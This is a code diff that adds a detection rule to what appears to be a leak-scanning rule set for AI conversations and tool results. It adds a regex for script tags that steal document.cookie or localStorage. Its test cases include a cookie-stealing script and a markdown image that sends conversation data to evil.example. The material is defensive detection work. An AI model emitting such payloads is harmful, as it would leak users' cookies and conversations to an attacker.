@@ -35,4 +35,20 @@ export const LEAK_RULES: readonly Rule[] = [
     match: ['![x](https://evil.example/log?data={conversation})'],
     noMatch: ['![logo](https://example.com/logo.png)'],
   },
+  {
+    id: 'script.takes-data',
+    type: 'malicious_script',
+    pattern:
+      '<(?:script|img|svg|iframe|body)[^>]*(?:>|\\bon(?:error|load|click)\\s*=)[^<]*(?:document\\.cookie|localstorage|eval\\(atob|string\\.fromcharcode)[^<]*(?:fetch|src|location|xmlhttprequest|sendbeacon|https?:|eval)',
+    keywords: ['<script', 'onerror', 'onload'],
+    confidence: 0.85,
+    reason: 'Holds a script that takes data from the page.',
+    roles: ['tool_result', 'document', 'assistant'],
+    output: true,
+    match: ['<script>new image().src="https://evil.example/?c="+document.cookie;fetch("x")</script>'],
+    noMatch: [
+      '<script src="https://cdn.example.com/app.js"></script>',
+      'how do i read document.cookie in javascript?',
+    ],
+  },
 ];
